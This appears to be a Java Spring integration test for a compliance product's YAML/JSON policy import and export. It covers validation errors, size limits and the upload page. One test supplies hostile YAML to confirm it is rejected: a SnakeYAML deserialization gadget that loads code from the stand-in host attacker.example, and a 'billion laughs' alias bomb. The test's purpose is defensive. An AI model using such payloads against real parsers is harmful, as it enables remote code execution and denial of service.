package com.commhub.compliance;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;

import com.commhub.Api;
import com.commhub.IntegrationTest;
import com.commhub.Personas;
import com.commhub.WebSession;

/**
 * Policy export/import as YAML and JSON (DLP-5): round trip, field-level problem details naming the path of the bad
 * value, nothing imported from a bad file, no Java types from YAML, size limit; download and upload on the page.
 * Test policies are scoped to a random department and carry a random code.
 */
@IntegrationTest
class PolicyExchangeIT {

	static final String EXPORT = "/api/v1/compliance/policies/export";
	static final String IMPORT = "/api/v1/compliance/policies/import";
	static final MediaType YAML = MediaType.parseMediaType("application/yaml");

	@LocalServerPort
	int port;
	@Autowired
	JdbcTemplate jdbc;

	Api api;
	String run;
	long department;

	@BeforeEach
	void setUp() {
		api = new Api(port);
		run = Long.toString(ThreadLocalRandom.current().nextLong(1L << 40), 36);
		department = 830_000_000L + ThreadLocalRandom.current().nextInt(1_000_000);
	}

	String yaml(String secondAction, String secondCode) {
		return """
				format: 1
				policies:
				  - active: true
				    definition:
				      code: test.yaml-a-%1$s
				      name: YAML 导入 A
				      priority: 40
				      action: WARN
				      tipZh: 请确认
				      scope:
				        channels: [MAIL, CHAT]
				        recipients: EXTERNAL
				        senderDepartmentIds: [%2$d]
				      conditions:
				        findings: { detectors: [mobile], minConfidence: MEDIUM }
				  - active: false
				    definition:
				      code: %4$s
				      name: YAML 导入 B
				      action: %3$s
				      scope: { senderDepartmentIds: [%2$d] }
				      conditions: { classificationAtLeast: CONFIDENTIAL }
				""".formatted(run, department, secondAction, secondCode);
	}

	ResponseEntity<String> importYaml(String document) {
		return api.post(Personas.COMMUNICATION_OFFICER, IMPORT).contentType(YAML)
			.body(document.getBytes(StandardCharsets.UTF_8)).retrieve().toEntity(String.class);
	}

	int policies(String codePrefix) {
		return jdbc.queryForObject("select count(*) from cmp_policy where code like ?", Integer.class,
				codePrefix + "%");
	}

	@Test
	void yamlRoundTrip() {
		ResponseEntity<String> imported = importYaml(yaml("BLOCK", "test.yaml-b-" + run));
		assertThat(imported.getStatusCode().value()).as(imported.getBody()).isEqualTo(200);
		assertThat(imported.getBody()).contains("\"created\":2");
		assertThat(jdbc.queryForObject("select active from cmp_policy where code = ?", Boolean.class,
				"test.yaml-b-" + run)).isFalse();

		ResponseEntity<String> export = api.get(Personas.COMMUNICATION_OFFICER, EXPORT + "?format=yaml").retrieve()
			.toEntity(String.class);
		assertThat(export.getHeaders().getContentType().isCompatibleWith(YAML)).isTrue();
		assertThat(export.getBody()).contains("code: test.yaml-a-" + run).contains("action: WARN")
			.contains("default.confidential-external").doesNotContain("{\"");
		// the export imports again without changes
		ResponseEntity<String> again = importYaml(export.getBody());
		assertThat(again.getStatusCode().value()).as(again.getBody()).isEqualTo(200);
		assertThat(again.getBody()).contains("\"created\":0").contains("\"updated\":0");

		ResponseEntity<String> changed = importYaml(yaml("QUARANTINE", "test.yaml-b-" + run));
		assertThat(changed.getBody()).contains("\"created\":0").contains("\"updated\":1");
		assertThat(api.get(Personas.COMMUNICATION_OFFICER, EXPORT).retrieve().toEntity(String.class).getBody())
			.contains("\"code\" : \"test.yaml-b-" + run + "\"").contains("\"QUARANTINE\"");
	}

	@Test
	void aBadValueIsNamedByItsPathAndNothingIsImported() {
		ResponseEntity<String> badAction = importYaml(yaml("EXPLODE", "test.yaml-b-" + run));
		assertThat(badAction.getStatusCode().value()).isEqualTo(400);
		assertThat(badAction.getHeaders().getContentType().toString()).contains("problem+json");
		assertThat(badAction.getBody()).contains("\"field\":\"policies[1].definition.action\"")
			.contains("compliance.import.invalid");
		assertThat(policies("test.yaml-a-" + run)).isZero();

		ResponseEntity<String> badCode = importYaml(yaml("WARN", "Bad Code!"));
		assertThat(badCode.getStatusCode().value()).isEqualTo(400);
		assertThat(badCode.getBody()).contains("\"field\":\"policies[1].definition.code\"");
		assertThat(policies("test.yaml-a-" + run)).isZero();

		ResponseEntity<String> unknown = importYaml(yaml("WARN", "test.yaml-b-" + run).replace("priority: 40",
				"priorty: 40"));
		assertThat(unknown.getBody()).contains("\"field\":\"policies[0].definition.priorty\"");

		ResponseEntity<String> syntax = importYaml("format: 1\npolicies: \"unterminated\n");
		assertThat(syntax.getStatusCode().value()).isEqualTo(400);
		assertThat(syntax.getBody()).contains("\"field\":\"file\"");

		ResponseEntity<String> json = api.post(Personas.COMMUNICATION_OFFICER, IMPORT)
			.contentType(MediaType.APPLICATION_JSON)
			.body("{\"policies\":[{\"definition\":{\"code\":\"test.json-" + run
					+ "\",\"name\":\"n\",\"action\":\"WARN\",\"scope\":{\"channels\":[\"PIGEON\"]}}}]}")
			.retrieve()
			.toEntity(String.class);
		assertThat(json.getStatusCode().value()).isEqualTo(400);
		assertThat(json.getBody()).contains("\"field\":\"policies[0].definition.scope.channels[0]\"");
		assertThat(policies("test.json-" + run)).isZero();
	}

	@Test
	void yamlCannotNameJavaTypesOrExpandAliasesOrExceedTheLimit() {
		ResponseEntity<String> typed = importYaml("""
				policies:
				  - definition: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
				""");
		assertThat(typed.getStatusCode().value()).isEqualTo(400);
		assertThat(typed.getBody()).contains("compliance.import.invalid");

		StringBuilder laughs = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
		for (char c = 'b'; c <= 'j'; c++) {
			char p = (char) (c - 1);
			laughs.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*")
				.append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p)
				.append(",*").append(p).append(",*").append(p).append("]\n");
		}
		laughs.append("policies: *j\n");
		long start = System.nanoTime();
		ResponseEntity<String> bomb = importYaml(laughs.toString());
		assertThat(bomb.getStatusCode().value()).isEqualTo(400);
		assertThat(System.nanoTime() - start).isLessThan(5_000_000_000L);

		ResponseEntity<String> large = importYaml("policies: []\n# " + "x".repeat(1_000_001));
		assertThat(large.getStatusCode().value()).isIn(400, 413);
		assertThat(large.getBody()).contains("\"field\":\"file\"");
	}

	@Test
	void theOfficerDownloadsAndUploadsYamlOnThePage() {
		WebSession browser = new WebSession(port);
		browser.signIn(Personas.COMMUNICATION_OFFICER);
		var page = browser.get("/compliance/policies");
		assertThat(page.body()).contains("id=\"policies-export-yaml\"").contains("accept=\".json,.yaml,.yml");
		var download = browser.get("/compliance/policies/export.yaml");
		assertThat(download.statusCode()).isEqualTo(200);
		assertThat(download.headers().firstValue("Content-Disposition").orElse("")).contains("commhub-policies.yaml");
		assertThat(download.body()).contains("code: default.personal-data-external");

		var uploaded = browser.postFile("/compliance/policies/import", "file", "policies.yaml", "application/yaml",
				yaml("BLOCK", "test.yaml-b-" + run).getBytes(StandardCharsets.UTF_8));
		assertThat(uploaded.statusCode()).isEqualTo(200);
		assertThat(uploaded.body()).contains("id=\"import-result\"").contains("新建 2 条");

		browser.get("/compliance/policies");
		var refused = browser.postFile("/compliance/policies/import", "file", "policies.yml", "application/octet-stream",
				yaml("EXPLODE", "test.yaml-c-" + run).getBytes(StandardCharsets.UTF_8));
		assertThat(refused.body()).contains("id=\"import-error\"")
			.contains("<code id=\"import-error-field\">policies[1].definition.action</code>");
		assertThat(policies("test.yaml-c-" + run)).isZero();
	}
}
